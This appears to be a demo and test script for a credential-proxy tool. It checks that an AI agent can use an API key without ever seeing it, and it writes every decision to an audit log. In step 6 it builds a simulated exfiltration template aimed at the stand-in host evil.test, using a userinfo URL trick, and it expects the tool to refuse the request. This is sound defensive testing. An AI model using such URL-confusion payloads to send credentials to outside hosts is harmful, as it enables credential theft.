/**
 * `make demo`: the main job end to end with the built binary, in a throwaway home, against a local
 * HTTPS upstream this script starts. An agent's template goes out with the real key while the agent
 * only ever sees {{CREDENTIAL}}; then an exfiltration attempt is refused with exit 4.
 * Run: node test/demo.ts [path/to/trust-protocol]
 */
import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as https from 'node:https';
import * as os from 'node:os';
import * as path from 'node:path';

const root = path.resolve(path.dirname(new URL(import.meta.url).pathname), '..');
const binary = path.resolve(process.argv[2] ?? path.join(root, 'dist/trust-protocol'));
const fixtures = path.join(root, 'fixtures/tls');
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'tp-demo-'));
const home = path.join(work, 'home');
const SECRET = `sk-demo-${Math.random().toString(36).slice(2, 14)}`;
const passwordFile = path.join(work, 'password');
fs.writeFileSync(passwordFile, 'demo master password\n', { mode: 0o600 });

const received: string[] = [];
const upstream = https.createServer({
  key: fs.readFileSync(path.join(fixtures, 'server.key')),
  cert: fs.readFileSync(path.join(fixtures, 'server.pem')),
}, (req, res) => {
  received.push(
    `${req.method} ${req.url} (Host: ${req.headers.host})\n    Authorization: ${req.headers.authorization}`,
  );
  res.setHeader('content-type', 'application/json');
  // A careless upstream that echoes the key back: trust-protocol must redact it.
  res.end(JSON.stringify({ ok: true, you_sent: req.headers.authorization }) + '\n');
});
await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
const port = (upstream.address() as { port: number }).port;

const bold = (
  s: string,
) => (process.stdout.isTTY && !process.env.NO_COLOR ? `\x1b[1m${s}\x1b[0m` : s);
let failures = 0;

/** Runs the binary (asynchronously: the upstream lives in this process and must keep serving). */
async function tp(
  args: string[],
  options: { input?: string; env?: Record<string, string>; expect?: number } = {},
) {
  const shown = args.map((a) => (a.includes(' ') ? `'${a}'` : a)).join(' ');
  console.log(`$ trust-protocol ${shown}`);
  const child = spawn(binary, ['--home', home, ...args], {
    env: { PATH: process.env.PATH ?? '', HOME: work, NO_COLOR: '1', ...options.env },
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d) => (stdout += d));
  child.stderr.on('data', (d) => (stderr += d));
  child.stdin.end(options.input ?? '');
  const status = await new Promise<number | null>((resolve) => child.on('close', resolve));
  const out = (stdout + stderr).trimEnd();
  if (out !== '') console.log(out.replace(/^/gm, '  '));
  const expected = options.expect ?? 0;
  if (status !== expected) {
    failures += 1;
    console.log(`  !! expected exit ${expected}, got ${status}`);
  } else {
    console.log(`  (exit ${status})`);
  }
  return { status, stdout, stderr };
}

try {
  console.log(bold(`\n1. The operator creates a vault (home: ${home})`));
  await tp(['init', '--password-file', passwordFile]);

  console.log(
    bold(
      '\n2. The operator stores an API key, usable only on api.allowed.test (value on stdin, never in argv)',
    ),
  );
  await tp([
    'credential',
    'add',
    'demo_key',
    '--allowed-domains',
    'api.allowed.test',
    '--password-file',
    passwordFile,
  ], { input: SECRET });

  console.log(bold('\n3. The operator registers an agent and grants it the key'));
  const reg = await tp([
    '--json',
    'agent',
    'register',
    'demo-agent',
    '--tier',
    'COMPANION',
    '--password-file',
    passwordFile,
  ]);
  const { id, token } = JSON.parse(reg.stdout) as { id: string; token: string };
  await tp(['agent', 'grant', id, 'demo_key', '--password-file', passwordFile]);

  console.log(bold('\n4. The agent writes a template: it only ever sees {{CREDENTIAL}}'));
  const template = path.join(work, 'request.json');
  fs.writeFileSync(
    template,
    JSON.stringify(
      {
        credential: 'demo_key',
        method: 'GET',
        url: 'https://api.allowed.test/v1/models',
        headers: { Authorization: 'Bearer {{CREDENTIAL}}' },
      },
      null,
      2,
    ),
  );
  console.log(fs.readFileSync(template, 'utf8').replace(/^/gm, '  '));
  const ca = path.join(fixtures, 'ca.pem');
  const route = `api.allowed.test:443:127.0.0.1:${port}`;
  const env = { TRUST_PROTOCOL_TOKEN: token };
  const ok = await tp([
    'exec',
    '--template',
    template,
    '--cacert',
    ca,
    '--connect-to',
    route,
    '--password-file',
    passwordFile,
  ], { env });

  console.log(bold('\n5. What the upstream received vs what the agent saw'));
  console.log(`  upstream received: ${received.join('\n  ')}`);
  console.log(`  agent saw:         ${ok.stdout.trim()}`);
  const leaked = ok.stdout.includes(SECRET) || ok.stderr.includes(SECRET);
  const delivered = received.some((r) => r.includes(`Bearer ${SECRET}`));
  console.log(
    `  the real key reached the upstream: ${delivered ? 'yes' : 'NO'}; the agent saw it: ${
      leaked ? 'YES (bug)' : 'no'
    }`,
  );
  if (!delivered || leaked) failures += 1;

  console.log(bold('\n6. A compromised agent tries to send the key to evil.test'));
  const evil = path.join(work, 'evil.json');
  fs.writeFileSync(
    evil,
    JSON.stringify({
      credential: 'demo_key',
      url: 'https://api.allowed.test@evil.test/collect',
      headers: { Authorization: 'Bearer {{CREDENTIAL}}' },
    }),
  );
  const before = received.length;
  await tp([
    'exec',
    '--template',
    evil,
    '--cacert',
    ca,
    '--connect-to',
    `evil.test:443:127.0.0.1:${port}`,
    '--password-file',
    passwordFile,
  ], { env, expect: 4 });
  if (received.length !== before) failures += 1;

  console.log(bold('\n7. Every decision is in the audit trail'));
  const log = fs.readFileSync(path.join(home, 'audit', 'audit.log'), 'utf8').trim().split('\n');
  for (const line of log) {
    const e = JSON.parse(line) as {
      seq: number;
      event: string;
      outcome: string;
      data: { reason?: string };
    };
    console.log(`  #${e.seq} ${e.event} ${e.outcome}${e.data.reason ? ` (${e.data.reason})` : ''}`);
  }
  if (log.some((l) => l.includes(SECRET) || l.includes(token))) failures += 1;
} finally {
  upstream.close();
  fs.rmSync(work, { recursive: true, force: true });
}

console.log(
  failures === 0
    ? bold('\nDemo finished: the key was used, never shown, and never left its allowed domain.')
    : `\nDemo FAILED (${failures} problem(s))`,
);
process.exitCode = failures === 0 ? 0 : 1;
